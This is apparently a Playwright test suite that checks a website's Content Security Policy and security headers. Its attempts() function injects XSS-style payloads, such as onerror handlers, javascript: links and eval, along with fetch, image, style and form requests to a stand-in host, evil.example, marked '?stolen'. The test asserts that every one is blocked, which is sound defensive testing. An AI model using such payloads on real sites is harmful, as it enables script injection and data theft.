import { readFile } from "node:fs/promises";
import { test as plainTest } from "playwright/test";
import { guidePagePath, searchPath } from "../lib/content/addresses/urls.ts";
import { playerOrigins } from "../lib/markdown/components/player-sites.ts";
import { searchUrl } from "../lib/search/search-query.ts";
import { expect, test } from "./console-and-requests.ts";

/** Answers that are no pages. */
const others = [
  "/feed.xml",
  "/feed.json",
  "/sitemap.xml",
  "/robots.txt",
  "/llms.txt",
  "/manifest.webmanifest",
];

plainTest("a player that the reader asks for may be shown, and no other frame", async ({ page }) => {
  const violations: string[] = [];
  page.on("console", (message) => message.type() === "error" && violations.push(message.text()));
  await page.route(
    (url) => url.protocol === "https:",
    (route) => route.fulfill({ contentType: "text/html", body: "<p>player</p>" }),
  );
  await page.goto(guidePagePath("youtube"));
  await page.locator("[data-embed]").first().getByRole("button").click();
  await expect(page.frameLocator("iframe").first().getByText("player")).toBeVisible();
  expect(violations).toEqual([]);
  await page.evaluate(() => {
    const frame = document.createElement("iframe");
    frame.src = "https://other.example/";
    document.body.append(frame);
  });
  await expect(() => expect(violations.join()).toContain("frame-src")).toPass();
});

for (const path of ["/", searchUrl({ text: "모델" })]) {
  plainTest(`what would have got into ${path.split("?")[0]} can't run`, async ({ page }) => {
    const asked: string[] = [];
    // What the policy refuses does not come as far as this.
    await page.route("https://evil.example/**", (route) => {
      asked.push(route.request().url());
      return route.abort();
    });
    await page.goto(path);
    const refused = await page.evaluate(attempts);
    await page.waitForTimeout(500);
    expect(refused).toEqual(["ownFileAsScript", "otherScript", "handler", "html", "evaluated"]);
    expect(await page.evaluate(() => Reflect.get(window, "hacked"))).toBeUndefined();
    expect(asked).toEqual([]);
    expect(page.context().pages()).toHaveLength(1);
  });
}

test("a search page brings a nonce of its own each time", async ({ request }) => {
  const policies = await Promise.all(
    [1, 2].map(async () => (await request.get(searchPath)).headers()["content-security-policy"] ?? ""),
  );
  const nonces = policies.map((policy) => /'nonce-([^']+)'/.exec(policy)?.[1]);
  expect(nonces[0]).toMatch(/^[\w+/]{22}==$/);
  expect(nonces[0]).not.toBe(nonces[1]);
});

for (const path of [...others, "/", "/no-such-page", "/_next/static/none.js", "/icon.svg"]) {
  test(`${path} says what a browser may do with it`, async ({ request }) => {
    const headers = (await request.get(path)).headers();
    expect(headers).toMatchObject({
      "x-content-type-options": "nosniff",
      "referrer-policy": "strict-origin-when-cross-origin",
      "strict-transport-security": "max-age=63072000",
      "cross-origin-opener-policy": "same-origin",
      "permissions-policy": expect.stringContaining("camera=()"),
    });
    expect(headers).not.toHaveProperty("x-powered-by");
  });
}

test("a drawing by its own address can do nothing", async ({ request }) => {
  const drawing = await request.get("/images/transformer/heatmap.svg");
  expect(drawing.headers()["content-security-policy"]).toBe(
    "default-src 'none'; style-src 'unsafe-inline'; frame-ancestors 'none'; sandbox",
  );
});

test("the policy that is sent names the scripts of this build, and the players' sites", async ({
  request,
}) => {
  const policy = (await request.get("/")).headers()["content-security-policy"] ?? "";
  expect(policy.match(/'sha256-/g)).toHaveLength(2);
  expect(policy).toContain(`frame-src ${playerOrigins.join(" ")};`);
  expect(await readFile(".next/routes-manifest.json", "utf8")).toContain(policy);
});

/** What somebody who has got text into a page would try; it runs in the page, and tells what was refused at once. */
function attempts(): Promise<readonly string[]> {
  const put = (name: string, attributes: Record<string, string>, code = "") => {
    const element = document.createElement(name);
    for (const [key, value] of Object.entries(attributes)) element.setAttribute(key, value);
    element.append(code);
    document.body.append(element);
    return element;
  };
  const tricks: Record<string, () => unknown> = {
    inlineScript: () => put("script", {}, "window.hacked = 'inline'"),
    ownFileAsScript: () => put("script", { src: "/feed.css" }),
    otherScript: () => put("script", { src: "https://evil.example/a.js" }),
    handler: () => put("img", { src: "/icon.svg", onload: "window.hacked = 'handler'" }),
    html: () =>
      put("div", {}).insertAdjacentHTML("beforeend", "<img src=x onerror=\"window.hacked='html'\">"),
    // biome-ignore lint/security/noGlobalEval: that it is refused is what is asked.
    evaluated: () => globalThis.eval("window.hacked = 'eval'"),
    address: () => put("a", { href: "javascript:void(window.hacked='address')" }).click(),
    picture: () => put("img", { src: "https://evil.example/?stolen" }),
    request: () => fetch("https://evil.example/?stolen").catch(() => {}),
    style: () => put("style", {}, "@import 'https://evil.example/a.css'"),
    base: () => put("base", { href: "https://evil.example/" }),
    form: () => {
      const form = put("form", { action: "https://evil.example/", target: "_blank" });
      if (form instanceof HTMLFormElement) form.submit();
    },
  };
  // Later: what Playwright calls may evaluate text for as long as the call lasts.
  return new Promise((resolve) => {
    setTimeout(() => {
      const refused: string[] = [];
      for (const [name, trick] of Object.entries(tricks)) {
        try {
          trick();
        } catch {
          refused.push(name);
        }
      }
      resolve(refused);
    }, 0);
  });
}
